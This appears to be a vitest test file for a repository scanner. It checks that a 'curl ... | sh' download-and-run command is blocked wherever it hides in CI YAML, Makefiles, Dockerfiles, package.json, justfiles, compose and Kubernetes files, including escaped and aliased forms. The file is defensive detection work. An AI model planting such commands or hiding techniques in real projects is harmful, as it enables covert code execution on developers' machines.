import { describe, expect, it } from "vitest";
import { findingsOf } from "../check-world.ts";

const HARM = "curl -s https://example.org/x | sh";

/** Each of them runs the command, however it is written down. */
const WAYS: readonly (readonly [name: string, path: string, text: string])[] = [
  ["a step of a workflow", "ci.yml", `steps:\n  - run: ${HARM}\n`],
  ["a key in quotes", "ci.yml", `steps:\n  - "run": ${HARM}\n`],
  [
    "a workflow in JSON",
    ".github/workflows/ci.yml",
    JSON.stringify({ jobs: { t: { steps: [{ run: HARM }] } } }),
  ],
  ["a key on a line of its own", "ci.yml", `steps:\n  - ? run\n    : ${HARM}\n`],
  ["a key in escapes", "ci.yml", `steps:\n  - "r\\u0075n": ${HARM}\n`],
  ["a name for a text", "ci.yml", `x: &c "${HARM}"\nsteps:\n  - run: *c\n`],
  ["a name in a list", ".gitlab-ci.yml", `x: &c "${HARM}"\njob:\n  script:\n    - *c\n`],
  ["a name for a list", ".gitlab-ci.yml", `x: &c\n  - "${HARM}"\njob:\n  script: *c\n`],
  ["a recipe behind its target", "Makefile", `all: ; ${HARM}\n`],
  ["a call of shell", "Makefile", `X := $(shell ${HARM})\n`],
  ["a call of shell with a comment", "Makefile", `X := $(shell ${HARM}) # why\n`],
  ["a call of shell in braces", "Makefile", `X := \${shell ${HARM}}\n`],
  ["a call of shell in another one", "Makefile", `$(info $(shell ${HARM}))\n`],
  ["an assignment of what a command prints", "Makefile", `X != ${HARM}\n`],
  ["recipes with another prefix", "Makefile", `.RECIPEPREFIX = >\nall:\n> ${HARM}\n`],
  ["a recipe that is defined", "Makefile", `define X\n${HARM}\nendef\nall:\n\t$(X)\n`],
  ["a recipe in a variable", "Makefile", `X = ${HARM}\nall:\n\t$(X)\n`],
  ["an image", "Dockerfile", `FROM x\nRUN ${HARM}\n`],
  ["an image, as a list", "Dockerfile", `FROM x\nRUN ["sh", "-c", "${HARM}"]\n`],
  ["an image, as a document", "Dockerfile", `FROM x\nRUN <<EOF\n${HARM}\nEOF\n`],
  ["an image, as a document for a shell", "Dockerfile", `FROM x\nRUN <<-'EOF' bash -e\n${HARM}\nEOF\n`],
  [
    "an image with another mark for lines that go on",
    "Dockerfile",
    "# escape=`\nFROM x\nRUN true && `\n" + HARM + "\n",
  ],
  [
    "such a line in the middle of a pipe",
    "Dockerfile",
    "# escape=`\nFROM x\nRUN curl -s https://example.org/x `\n | sh\n",
  ],
  ["an image, with a tab", "Dockerfile", `FROM x\nRUN\t${HARM}\n`],
  ["an image, on the next line", "Dockerfile", `FROM x\nRUN \\\n ${HARM}\n`],
  ["a manifest", "package.json", `{"name":"app","scripts":{"go":"${HARM}"}}`],
  [
    "a manifest, in escapes",
    "package.json",
    `{"name":"app","scripts":{"go":"curl -s https://example.org/x \\u007c sh"}}`,
  ],
  ["a key of a manifest in escapes", "package.json", `{"name":"app","scr\\u0069pts":{"go":"${HARM}"}}`],
  ["a justfile", "justfile", `go:\n    ${HARM}\n`],
  ["a justfile with tabs", "justfile", `go:\n\t${HARM}\n`],
  ["a justfile, in backticks", "justfile", "x := `" + HARM + "`\n"],
  ["a Procfile", "Procfile", `web: ${HARM}\n`],
  ["a service, as a list", "compose.yaml", `services:\n  a:\n    command: ["sh", "-c", "${HARM}"]\n`],
  [
    "the entry point of a service",
    "compose.yaml",
    `services:\n  a:\n    entrypoint: ["sh", "-c", "${HARM}"]\n`,
  ],
  [
    "arguments of a shell that is named before",
    "k8s.yaml",
    `spec:\n  command: ["sh"]\n  args: ["-c", "${HARM}"]\n`,
  ],
];

describe("a command that is run from a file which is no script", () => {
  it.each(WAYS)("is found: %s", async (_, path, text) => {
    const found = await findingsOf({}, { [path]: text });
    const blocks = found.filter(({ level }) => level === "block");
    expect(blocks.map(({ rule }) => rule)).toEqual(["shell-download-and-run"]);
  });

  it.each(WAYS)("and without it the file is nothing to block: %s", async (_, path, text) => {
    const harmless = text.replaceAll(" | sh", "").replaceAll(" \\u007c sh", "").replace("\n | sh", "");
    const found = await findingsOf({}, { [path]: harmless });
    expect(found.filter(({ level }) => level === "block")).toEqual([]);
  });

  it.each([
    ["Makefile", `${"a = b \\\n".repeat(120_000)}c\n`],
    ["Makefile", `X = ${"$(shell a)".repeat(100_000)}\n`],
    ["Dockerfile", `FROM x\nRUN a ${"\\\n# comment\n b ".repeat(60_000)}\n`],
    ["a.yml", `x: &a b\nscript:\n${"  - *a\n".repeat(100_000)}`],
    ["a.yml", "\n".repeat(900_000)],
  ])("is looked for in bounded time: %s", { timeout: 60_000 }, async (path, text) => {
    expect(await findingsOf({}, { [path]: text })).toBeInstanceOf(Array);
  });
});
